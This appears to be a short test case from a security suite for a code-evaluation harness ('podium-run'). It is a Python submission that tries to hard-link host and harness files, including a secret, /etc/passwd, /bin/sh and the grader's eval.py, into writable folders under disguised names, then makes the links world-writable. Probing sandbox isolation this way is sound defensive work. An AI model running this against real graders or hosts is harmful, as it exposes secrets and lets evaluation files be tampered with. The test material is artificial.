# 102 folder_hard_links
# attempts: to make hard links to files of the host and of the harness in its own folders.
#   podium-run might then change, give away or publish these files together with the folders
# required: VERDICT
# needs: files
# mode: ranked
import os
from attack import custom_kernel

FILES = ["@SECRET@", "@VICTIM@/open/keep", "@VICTIM@/id", "/etc/passwd", "/bin/sh", "eval.py", "submission.py", "../cases.txt"]
CACHE = os.path.dirname(os.environ["TRITON_CACHE_DIR"])
for place in (".", "..", os.environ["HOME"], os.environ["TMPDIR"], CACHE, "/tmp"):
    for number, path in enumerate(FILES):
        for name in (f"hard-{number}", ["eval.out", "profile.ncu-rep", "triton", "cuda", "inductor", "xdg", "x", "y"][number]):
            try:
                os.link(path, f"{place}/{name}")
                os.chmod(f"{place}/{name}", 0o666)
            except OSError:
                pass
